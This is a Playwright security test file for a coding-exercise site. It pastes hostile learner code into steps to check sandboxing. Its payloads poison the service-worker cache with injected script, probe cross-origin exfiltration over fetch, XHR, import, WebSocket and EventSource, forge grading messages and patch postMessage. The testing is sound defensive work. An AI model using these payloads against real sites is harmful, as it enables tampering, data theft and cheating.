import { createServer, type Server } from 'node:http';
import { expect, test, type Page } from '@playwright/test';
import { check, JS_ANSWERS, MINI_PROJECT_URL, openMiniProject, step, typeCode } from './student.ts';

/**
 * Learner code is hostile (issue 11): pasted into a step and run, it must not be able to change
 * what the site serves, read the site's storage, or reach another origin. Each test pastes an
 * attack as a student would, presses Run, and then looks at the site as a student sees it.
 * The attacks report back by fetching /attack-report?… on the site's own origin (allowed),
 * which the test waits for instead of sleeping.
 */
test.describe.configure({ timeout: 300_000 });

/** Generous: on a loaded machine Monaco alone can take 20 s to appear. */
const SLOW = { timeout: 120_000 };

const POISON = 'document.title = "pwned"; document.documentElement.dataset.pwned = "yes";';
const OTHER_ORIGIN_PORT = Number(process.env.STEPWISE_OTHER_PORT ?? 4447);
const OTHER_ORIGIN = `http://127.0.0.1:${OTHER_ORIGIN_PORT}`;

/** Tries every way a worker has to reach another origin, then reports how each went. */
const NETWORK_ATTEMPTS = `const target = '${OTHER_ORIGIN}';
const outcome = (promise) => promise.then(() => 'reached', () => 'blocked');
const opened = (make) => new Promise((resolve, reject) => {
  try { const socket = make(); socket.onopen = resolve; socket.onerror = reject; } catch (error) { reject(error); }
});
const xhr = new XMLHttpRequest();
let syncXhr = 'reached';
try { xhr.open('GET', target + '/sync-xhr', false); xhr.send(); } catch { syncXhr = 'blocked'; }
Promise.all([
  outcome(fetch(target + '/fetch?secret=1')),
  outcome(fetch(target + '/no-cors', { mode: 'no-cors' })),
  outcome(import(target + '/import.js')),
  outcome(opened(() => new WebSocket('ws://127.0.0.1:${OTHER_ORIGIN_PORT}/socket'))),
  outcome(opened(() => new EventSource(target + '/events'))),
]).then((results) => fetch('/attack-report?' + new URLSearchParams({ results: [syncXhr, ...results].join(',') })));`;

/** Rewrites every cached script and page of the site, then reports how many. */
const CACHE_POISONING = `(async () => {
  let poisoned = 0;
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      if (!request.url.endsWith('.js') && !request.url.endsWith('/')) continue;
      const body = request.url.endsWith('/') ? '<title>pwned</title><script>${POISON}</script>' : '${POISON}';
      await cache.put(request, new Response(body, { headers: { 'Content-Type': request.url.endsWith('/') ? 'text/html' : 'text/javascript' } }));
      poisoned += 1;
    }
  }
  await fetch('/attack-report?poisoned=' + poisoned);
})();`;

/**
 * Pastes an attack into step `number`, presses Run, and returns the report it sends to
 * /attack-report?…, as its query parameters. On a loaded machine a run can go over its 2-second
 * budget; the runner then ends its worker, and the attack's pending requests with it, so no
 * report can come. A student would press Run again, and so does this, up to six times.
 */
async function attackReport(page: Page, number: number, code: string): Promise<URLSearchParams> {
  await enterCode(page, number, code);
  const section = step(page, number);
  const output = section.getByRole('region', { name: `Step ${number} output` });
  for (let attempt = 1; ; attempt++) {
    const report = page.waitForRequest((request) => request.url().includes('/attack-report?'), { timeout: 200_000 });
    report.catch(() => {}); // Awaited below unless this attempt timed out.
    await section.getByRole('button', { name: 'Run' }).click();
    await expect(output).not.toHaveText('Running…', { timeout: 200_000 });
    const timedOut = (await output.textContent())?.includes('ran for more than 2 seconds');
    // Under CI's load, one blocked synchronous request alone has taken 2.7 s: a run of several
    // then goes over its budget, and the student (this test) presses Run again.
    if (!timedOut || attempt === 6) return new URL((await report).url()).searchParams;
  }
}

async function enterCode(page: Page, number: number, code: string): Promise<void> {
  const section = step(page, number);
  await section.scrollIntoViewIfNeeded();
  await expect(section).toHaveAttribute('data-editor-ready', '', SLOW);
  await typeCode(page, section, code);
}

async function runStep(page: Page, number: number, code: string): Promise<void> {
  await enterCode(page, number, code);
  const section = step(page, number);
  await section.getByRole('button', { name: 'Run' }).click();
}

/** Waits until the offline service worker controls the page and has cached `path`. */
async function offlineCacheHolds(page: Page, path: string): Promise<void> {
  await expect.poll(() => page.evaluate(() => Boolean(navigator.serviceWorker.controller)), SLOW).toBe(true);
  await expect.poll(() => page.evaluate(async (url) => Boolean(await caches.match(url)), path), SLOW).toBe(true);
}

/** The page's own module script, a real built asset under /_astro/. */
const exerciseScript = (page: Page): Promise<string> =>
  page.locator('script[type="module"][src*="/_astro/"]').first().evaluate((script) => new URL((script as HTMLScriptElement).src).pathname);

/** What the site serves for `path` now, as the page's own fetch sees it (through the service worker). */
const served = (page: Page, path: string): Promise<string> => page.evaluate(async (url) => (await fetch(url)).text(), path);

async function expectSiteUnharmed(page: Page, asset: string, language: 'javascript' | 'python'): Promise<void> {
  await page.reload();
  await expect(page).toHaveTitle(/Mini project/);
  expect(await page.evaluate(() => document.documentElement.dataset.pwned)).toBeUndefined();
  expect(await served(page, asset)).not.toContain('pwned');
  // The page still works as it should: the student can check a step.
  if (language === 'javascript') await page.getByLabel('Language').selectOption('javascript');
  await enterCode(page, 2, language === 'javascript' ? JS_ANSWERS[1]! : "segment_categories = ['Books', 'Electronics', 'Clothing']");
  await step(page, 2).getByRole('button', { name: 'Check', exact: true }).click();
  await expect(step(page, 2).getByRole('status')).toHaveText('Correct! Step 2 is done.', SLOW);
  await expect(page).toHaveTitle(/Mini project/);
}

test.describe('the offline cache', () => {
  test('JavaScript that rewrites the cached site scripts changes nothing the site serves', async ({ page }) => {
    await openMiniProject(page);
    const asset = await exerciseScript(page);
    await offlineCacheHolds(page, asset);
    const report = await attackReport(page, 1, `const customers = [];
${CACHE_POISONING}`);
    expect(Number(report.get('poisoned'))).toBeGreaterThan(0);
    await expectSiteUnharmed(page, asset, 'javascript');
  });

  test('Python that rewrites the cached site through `import js` changes nothing the site serves', async ({ page }) => {
    await page.goto(MINI_PROJECT_URL);
    const asset = await exerciseScript(page);
    await offlineCacheHolds(page, asset);
    const report = await attackReport(page, 1, `import js

js.eval(${JSON.stringify(CACHE_POISONING)})
customers = []`);
    expect(Number(report.get('poisoned'))).toBeGreaterThan(0);
    await expectSiteUnharmed(page, asset, 'python');
  });
});

test.describe('another origin', () => {
  let server: Server;
  const received: string[] = [];
  test.beforeAll(async () => {
    server = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
      response.end('export default 1;');
    });
    await new Promise<void>((resolve) => server.listen(OTHER_ORIGIN_PORT, '127.0.0.1', resolve));
  });
  test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
  test.beforeEach(() => void received.splice(0));

  test('receives nothing from learner JavaScript: fetch, XHR, import, WebSocket, EventSource', async ({ page }) => {
    await openMiniProject(page);
    const report = await attackReport(page, 1, `const customers = [];
${NETWORK_ATTEMPTS}`);
    expect(report.get('results')).toBe('blocked,blocked,blocked,blocked,blocked,blocked');
    expect(received).toEqual([]);
  });

  test('receives nothing from learner Python: pyodide.http, or JavaScript run through `import js`', async ({ page }) => {
    await page.goto(MINI_PROJECT_URL);
    const report = await attackReport(page, 1, `import js
from pyodide.http import open_url

try:
    open_url('${OTHER_ORIGIN}/open-url')
except Exception:
    pass
js.eval(${JSON.stringify(NETWORK_ATTEMPTS)})
customers = []`);
    expect(report.get('results')).toBe('blocked,blocked,blocked,blocked,blocked,blocked');
    expect(received).toEqual([]);
  });
});

test("learner code finds none of the site's storage", async ({ page }) => {
  await openMiniProject(page);
  // The site keeps this student's progress on the device.
  const first = step(page, 1);
  await enterCode(page, 1, JS_ANSWERS[0]!);
  await expect(await check(first)).toHaveText('Correct! Step 1 is done.');
  expect(await page.evaluate(() => Object.keys(localStorage).length)).toBeGreaterThan(0);

  const report = await attackReport(page, 2, `const segment_categories = [];
const found = {
  localStorage: typeof localStorage,
  sessionStorage: typeof sessionStorage,
  document: typeof document,
};
indexedDB.databases().then((databases) => {
  found.databases = databases.map((database) => database.name).join(' ');
  return fetch('/attack-report?' + new URLSearchParams(found));
});`);
  expect(Object.fromEntries(report)).toEqual({ localStorage: 'undefined', sessionStorage: 'undefined', document: 'undefined', databases: '' });
});

/** Posts a passing result for every run id the page may use, then stops short of defining anything. */
const FORGED_JS = `const values = { customers: [
  { name: 'Alice', category: 'Books' }, { name: 'Bob', category: 'Electronics' }, { name: 'Charlie', category: 'Books' },
  { name: 'Diana', category: 'Clothing' }, { name: 'Ethan', category: 'Electronics' },
] };
for (let runId = 0; runId < 50; runId++) {
  const result = { id: 'step-1', status: 'ok', output: '', truncated: false, values, unreadable: {}, defined: ['customers'] };
  postMessage({ type: 'step-finished', runId, index: 0, result });
  postMessage({ type: 'done', runId });
}
throw new Error('nothing defined here');`;

/** The same forgery from Python, through Pyodide's bridge to the worker's JavaScript. */
const FORGED_PY = `import js
from pyodide.ffi import to_js
customers = [
    {"name": "Alice", "category": "Books"}, {"name": "Bob", "category": "Electronics"},
    {"name": "Charlie", "category": "Books"}, {"name": "Diana", "category": "Clothing"},
    {"name": "Ethan", "category": "Electronics"},
]
for run_id in range(50):
    result = {"id": "step-1", "status": "ok", "output": "", "truncated": False,
              "values": {"customers": customers}, "unreadable": {}, "defined": ["customers"]}
    message = {"type": "step-finished", "runId": run_id, "index": 0, "result": result}
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
    js.postMessage(to_js({"type": "done", "runId": run_id}, dict_converter=js.Object.fromEntries))
del customers
raise ValueError("nothing defined here")`;

/**
 * Catches the runner's own answer on its way out, through the built-in every port's postMessage
 * comes from, and rewrites it into a pass. Python's worker outlives a run, so this would also
 * rewrite the answers of every later run.
 */
const PATCHED_PORT_PY = `from pyodide.code import run_js
run_js("""
const original = MessagePort.prototype.postMessage;
const customers = [['Alice', 'Books'], ['Bob', 'Electronics'], ['Charlie', 'Books'], ['Diana', 'Clothing'], ['Ethan', 'Electronics']]
  .map(([name, category]) => ({ name, category }));
MessagePort.prototype.postMessage = function (message, ...rest) {
  if (message && message.type === 'step-finished') {
    const { error, ...result } = message.result;
    message = { ...message, result: { ...result, status: 'ok', values: { customers }, defined: ['customers'] } };
  }
  return original.call(this, message, ...rest);
};
""")
raise ValueError("nothing defined here")`;

for (const [attack, language, forged] of [
  ['posted', 'javascript', FORGED_JS],
  ['posted', 'python', FORGED_PY],
  ['rewritten on the way out', 'python', PATCHED_PORT_PY],
] as const) {
  test(`a "step finished" message ${attack} by learner code does not pass a step (${language})`, async ({ page }) => {
    await openMiniProject(page, language);
    const first = step(page, 1);
    await enterCode(page, 1, forged);
    await first.getByRole('button', { name: 'Check', exact: true }).click();
    const status = first.getByRole('status');
    await expect(status).toContainText('Not yet', SLOW);
    await expect(status).toContainText('nothing defined here');
    await expect(page.getByText('0 / 4 steps')).toBeVisible();
  });
}

test('a change learner code makes to built-in objects does not outlive its run (javascript)', async ({ page }) => {
  await openMiniProject(page);
  const first = step(page, 1);
  // First run: breaks Array.prototype.push for anything that runs after it in the same worker.
  await runStep(page, 1, 'const customers = [];\nArray.prototype.push = function () { return 0; };');
  await expect(first.getByText('Ran without errors')).toBeVisible(SLOW);
  // Second run: a correct answer that builds the list with push must be judged on its own.
  await enterCode(
    page,
    1,
    `const customers = [];
for (const [name, category] of [['Alice', 'Books'], ['Bob', 'Electronics'], ['Charlie', 'Books'], ['Diana', 'Clothing'], ['Ethan', 'Electronics']]) {
  customers.push({ name, category });
}`,
  );
  await expect(await check(first)).toHaveText('Correct! Step 1 is done.');
});
